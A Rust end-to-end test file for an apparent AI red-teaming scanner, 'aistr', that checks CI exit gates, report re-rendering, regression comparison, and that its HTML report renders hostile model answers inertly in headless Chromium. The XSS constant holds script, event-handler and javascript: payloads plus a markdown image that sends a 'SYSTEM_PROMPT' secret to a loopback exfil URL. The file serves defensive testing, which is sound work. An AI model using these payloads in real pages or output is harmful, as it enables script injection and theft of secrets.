//! End-to-end tests of the report outputs as CI uses them: the real binary against a scripted
//! OpenAI-compatible server on loopback. `--fail-on` exit codes both ways, `aistr report` re-rendering
//! every format from the journal, `aistr compare` flagging a regression, and Debian's headless
//! Chromium opening the HTML report of a run whose answers are XSS payloads.

mod common;
use aistr_test_support::{MockServer, Reply};
use common::{aistr, read_json, run, stderr};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

fn scan(server: &MockServer, dir: &Path, run_id: &str) -> Command {
    let mut c = aistr();
    c.args([
        "scan",
        "--target",
        "openai",
        "--base-url",
        &server.base_url(),
        "--model",
        "mock",
        "--no-progress",
    ])
    .args(["--dataset", "jbb-harmful", "--limit", "20", "--run-id", run_id])
    // Reports, gates and comparisons are under test, not the judge: `rules` calls the scripted step
    // outline risky, where the learned judge (rightly, by the labelling rubric) finds it delivers
    // nothing.
    .args(["--judge", "rules"])
    .arg("--db")
    .arg(dir.join("j.db"))
    .arg("--out")
    .arg(dir.join(run_id));
    c
}

const COMPLY: &str = "Sure, here is exactly what you asked for. Step 1: gather the materials listed below. \
                      Step 2: follow these detailed instructions carefully to accomplish the goal.";
const REFUSE: &str = "I'm sorry, but I can't help with that.";

/// Complies with prompts that contain "write", refuses the rest: an R strictly between 0 and 1.
fn mixed() -> aistr_test_support::Script {
    Arc::new(|r| {
        Reply::Text(if r.prompt.to_lowercase().contains("write") {
            COMPLY.into()
        } else {
            REFUSE.into()
        })
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn fail_on_exit_codes_both_ways() {
    let server = MockServer::start(mixed()).await;
    let dir = tempfile::tempdir().expect("tempdir");

    // A syntax error is a usage error (2) and nothing is sent.
    let mut bad = scan(&server, dir.path(), "bad");
    bad.args(["--fail-on", "R>>0.1"]);
    let out = run(bad).await;
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        server.requests().is_empty(),
        "a bad --fail-on must stop the scan before any request"
    );

    // Crossed: exit 3, the report is still written.
    let mut crossed = scan(&server, dir.path(), "r1");
    crossed.args(["--fail-on", "R>0.01", "--format", "sarif,junit"]);
    let out = run(crossed).await;
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(stderr(&out).contains("CROSSED R>0.01"), "{}", stderr(&out));
    let r = read_json(&dir.path().join("r1/report.json"));
    let risky = r["overall"]["risky"].as_u64().expect("risky");
    assert!(
        risky > 0 && risky < 20,
        "fixture needs a mixed R, got {risky} risky"
    );
    assert!(dir.path().join("r1/report.sarif").is_file() && dir.path().join("r1/report.junit.xml").is_file());
    let sarif = read_json(&dir.path().join("r1/report.sarif"));
    assert_eq!(
        sarif["runs"][0]["results"].as_array().expect("results").len(),
        usize::try_from(risky).expect("n")
    );

    // Not crossed: exit 0 on the same kind of run.
    let mut passed = scan(&server, dir.path(), "r2");
    passed.args(["--fail-on", "R>0.99, L1.R_lo>0.9, category:*.R>0.999"]);
    let out = run(passed).await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stderr(&out).contains("--fail-on passed"));

    // The same gate on an existing run, without re-running it; an unknown cell is a usage error.
    let db = dir.path().join("j.db");
    for (cond, code) in [
        ("R>0.01", 3),
        ("R>0.99", 0),
        ("L1.risky>0", 3),
        ("category:no.such.R>0", 2),
    ] {
        let mut c = aistr();
        c.args(["report", "r1", "--format", "json", "--fail-on", cond])
            .arg("--db")
            .arg(&db)
            .arg("--out")
            .arg(dir.path().join("again"));
        let out = run(c).await;
        assert_eq!(out.status.code(), Some(code), "{cond}: {}", stderr(&out));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn report_command_rerenders_every_format_from_the_journal() {
    let server = MockServer::start(mixed()).await;
    let dir = tempfile::tempdir().expect("tempdir");
    let out = run(scan(&server, dir.path(), "r1")).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let requests = server.requests().len();

    let mut c = aistr();
    c.args(["report", "r1", "--format", "all"])
        .arg("--db")
        .arg(dir.path().join("j.db"))
        .arg("--out")
        .arg(dir.path().join("re"));
    let out = run(c).await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(server.requests().len(), requests, "re-rendering sends nothing");
    for f in [
        "report.html",
        "report.json",
        "report.md",
        "report.sarif",
        "report.junit.xml",
    ] {
        let p = dir.path().join("re").join(f);
        assert!(
            std::fs::metadata(&p).map(|m| m.len() > 200).unwrap_or(false),
            "{f} missing or empty"
        );
    }
    // The re-rendered report.json is the scan's own.
    assert_eq!(
        read_json(&dir.path().join("re/report.json")),
        read_json(&dir.path().join("r1/report.json"))
    );
    assert_eq!(read_json(&dir.path().join("re/report.sarif"))["version"], "2.1.0");
    let junit = std::fs::read_to_string(dir.path().join("re/report.junit.xml")).expect("junit");
    assert!(junit.starts_with("<?xml") && junit.contains("<testsuite name=\"L1 random\""));

    // Errors: unknown run and missing journal are usage errors; unknown format too.
    for (args, db) in [
        (vec!["report", "nope"], dir.path().join("j.db")),
        (vec!["report", "r1"], dir.path().join("missing.db")),
    ] {
        let mut c = aistr();
        c.args(args)
            .arg("--db")
            .arg(&db)
            .arg("--out")
            .arg(dir.path().join("x"));
        assert_eq!(run(c).await.status.code(), Some(2));
    }
    let mut c = aistr();
    c.args(["report", "r1", "--format", "pdf"])
        .arg("--db")
        .arg(dir.path().join("j.db"));
    assert_eq!(run(c).await.status.code(), Some(2));
}

#[tokio::test(flavor = "multi_thread")]
async fn compare_flags_a_significant_regression() {
    let comply = Arc::new(AtomicBool::new(false));
    let flag = Arc::clone(&comply);
    let server = MockServer::start(Arc::new(move |_| {
        Reply::Text(if flag.load(Ordering::SeqCst) {
            COMPLY.into()
        } else {
            REFUSE.into()
        })
    }))
    .await;
    let dir = tempfile::tempdir().expect("tempdir");
    assert!(run(scan(&server, dir.path(), "before")).await.status.success());
    comply.store(true, Ordering::SeqCst);
    assert!(run(scan(&server, dir.path(), "after")).await.status.success());

    let db = dir.path().join("j.db");
    let mut c = aistr();
    c.args(["compare", "before", "after", "--json", "--fail-on-regression"])
        .arg("--db")
        .arg(&db);
    let out = run(c).await;
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    let v: Value = serde_json::from_slice(&out.stdout).expect("json");
    let overall = v["deltas"]
        .as_array()
        .expect("deltas")
        .iter()
        .find(|d| d["dim"] == "overall" && d["metric"] == "R")
        .expect("overall R");
    assert_eq!(overall["a"], serde_json::json!([0, 20]));
    assert_eq!(overall["b"], serde_json::json!([20, 20]));
    assert_eq!(overall["regression"], true);
    assert!(overall["p_holm"].as_f64().expect("p") < 1e-6);

    // The other way round it is an improvement, not a regression: exit 0.
    let mut c = aistr();
    c.args(["compare", "after", "before", "--fail-on-regression"])
        .arg("--db")
        .arg(&db);
    let out = run(c).await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("significant"));
    // Comparing rebuilt the reports in a scratch place: the runs' own report.json are untouched.
    assert!(dir.path().join("before/report.json").is_file());
}

/// What hostile models answer with; each would leave a mark in the DOM if it ran.
const XSS: &str = "Sure, here is exactly what you asked for. Step 1: gather the materials listed below. \
    <script>document.title='PWNED';document.documentElement.setAttribute('data-pwned','script')</script> \
    <img src=x onerror=\"document.documentElement.setAttribute('data-pwned','img')\"> \
    <a href=\"javascript:document.documentElement.setAttribute('data-pwned','link')\">click</a> [md](javascript:alert(1)) \
    ![exfil](http://127.0.0.1:9/exfil?secret=SYSTEM_PROMPT) &lt;script&gt;alert(1)&lt;/script&gt; \
    </pre></details><svg onload=\"document.documentElement.setAttribute('data-pwned','svg')\"></svg> \
    Step 2: follow these detailed instructions.";

fn chromium() -> Option<PathBuf> {
    aistr_test_support::require_program_or_skip("chromium", &["chromium", "chromium-browser"])
}

/// Runs chromium with output going to files (a pipe would fill up on a large DOM and stall it),
/// killing it after 90 s. Returns (stdout, stderr).
fn run_chromium(bin: &Path, profile: &Path, extra: &[String], page: &Path) -> (String, String) {
    let (out_path, err_path) = (profile.join("stdout.txt"), profile.join("stderr.txt"));
    let mut child = Command::new(bin)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--disable-component-update",
        ])
        .args(["--disable-sync", "--no-first-run", "--disable-dev-shm-usage"])
        .arg(format!("--user-data-dir={}", profile.join("profile").display()))
        .args(extra)
        .arg(format!("file://{}", page.display()))
        .stdin(Stdio::null())
        .stdout(std::fs::File::create(&out_path).expect("stdout file"))
        .stderr(std::fs::File::create(&err_path).expect("stderr file"))
        .spawn()
        .expect("chromium starts");
    let start = Instant::now();
    while child.try_wait().expect("wait").is_none() {
        if start.elapsed() > Duration::from_secs(90) {
            let _ = child.kill();
            let _ = child.wait();
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let read = |p: &Path| String::from_utf8_lossy(&std::fs::read(p).unwrap_or_default()).into_owned();
    (read(&out_path), read(&err_path))
}

#[tokio::test(flavor = "multi_thread")]
async fn headless_chromium_runs_no_payload_script() {
    let Some(bin) = chromium() else {
        return;
    };
    let server = MockServer::start(Arc::new(|_| Reply::Text(XSS.into()))).await;
    let dir = tempfile::tempdir().expect("tempdir");
    let mut c = scan(&server, dir.path(), "xss");
    c.args(["--format", "html"]);
    let out = run(c).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let page = dir.path().join("xss/report.html");
    let html = std::fs::read_to_string(&page).expect("html");
    assert!(
        html.contains("data-pwned"),
        "payloads are in the report (as text)"
    );

    let profile = tempfile::tempdir().expect("profile");
    let dump = tokio::task::spawn_blocking({
        let (bin, page, profile) = (bin.clone(), page.clone(), profile.path().to_owned());
        move || {
            run_chromium(
                &bin,
                &profile,
                &["--dump-dom".into(), "--virtual-time-budget=3000".into()],
                &page,
            )
        }
    })
    .await
    .expect("join");
    let (dom, errors) = dump;
    assert!(
        dom.trim_end().ends_with("</html>"),
        "chromium produced no complete DOM: {errors}"
    );
    // Our own script ran (so scripts do run here, and the CSP hash admits it)...
    assert!(dom.contains("data-report-js=\"ok\""), "report script did not run");
    // ...and no payload did.
    assert!(
        !dom.contains("data-pwned=\""),
        "a payload ran: {}",
        &dom[..dom.len().min(400)]
    );
    assert!(!dom.contains("<title>PWNED"), "title changed by a payload");
    assert!(!dom.contains("<img"), "no live image element");
    assert!(
        dom.contains("&lt;script&gt;document.title="),
        "payload shown as text"
    );

    let shot = Path::new(env!("CARGO_TARGET_TMPDIR")).join("aistr-report-xss.png");
    let _ = std::fs::remove_file(&shot);
    let profile2 = tempfile::tempdir().expect("profile");
    let extra = vec![
        format!("--screenshot={}", shot.display()),
        "--window-size=1280,4200".into(),
        "--hide-scrollbars".into(),
    ];
    let (_, errors) = tokio::task::spawn_blocking({
        let (bin, page, profile) = (bin.clone(), page.clone(), profile2.path().to_owned());
        move || run_chromium(&bin, &profile, &extra, &page)
    })
    .await
    .expect("join");
    let size = std::fs::metadata(&shot).map(|m| m.len()).unwrap_or(0);
    assert!(size > 10_000, "no screenshot written: {errors}");
    eprintln!("screenshot: {}", shot.display());
}
